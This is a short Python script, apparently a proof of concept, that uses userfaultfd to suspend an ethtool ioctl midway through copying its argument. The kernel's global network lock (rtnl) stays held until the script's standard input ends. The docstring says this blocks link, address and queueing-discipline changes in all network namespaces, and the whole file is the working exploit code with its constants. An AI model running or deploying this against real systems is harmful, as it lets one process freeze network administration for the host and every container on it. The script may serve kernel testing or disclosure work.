"""Holds the kernel's network lock (rtnl): changes of links, addresses and queueing disciplines, and many dumps, wait
for it, in all namespaces. Prints "held" when it has the lock, and releases it when standard input ends.

An ioctl of ethtool copies its argument while it has the lock; the second half of the argument is on a page that this
program supplies only at the end (userfaultfd)."""
import ctypes
import fcntl
import mmap
import os
import socket
import struct
import sys
import threading

PAGE = mmap.PAGESIZE
SYS_USERFAULTFD = 323 if os.uname().machine == "x86_64" else 282
API, REGISTER, ZEROPAGE = 0xc018aa3f, 0xc020aa00, 0xc020aa04  # UFFDIO_*
SIOCETHTOOL, GSTRINGS = 0x8946, 0x1b
libc = ctypes.CDLL(None, use_errno=True)


def main():
    fd = libc.syscall(SYS_USERFAULTFD, os.O_CLOEXEC)
    if fd < 0:
        print(f"no: {os.strerror(ctypes.get_errno())}", flush=True)
        return
    memory = mmap.mmap(-1, 2 * PAGE, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
    start = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    struct.pack_into("=I", memory, PAGE - 4, GSTRINGS)  # the number of the command, all that is copied before the lock
    fcntl.ioctl(fd, API, bytearray(struct.pack("=QQQ", 0xaa, 0, 0)))
    fcntl.ioctl(fd, REGISTER, bytearray(struct.pack("=QQQQ", start + PAGE, PAGE, 1, 0)))
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    request = ctypes.create_string_buffer(struct.pack("=16sQ", b"lo", start + PAGE - 4).ljust(40, b"\0"), 40)
    waits = threading.Thread(target=lambda: libc.ioctl(s.fileno(), SIOCETHTOOL, request))
    waits.start()
    os.read(fd, 32)  # the kernel has come to that page
    print("held", flush=True)
    sys.stdin.read()
    fcntl.ioctl(fd, ZEROPAGE, bytearray(struct.pack("=QQQq", start + PAGE, PAGE, 0, 0)))
    waits.join()


main()
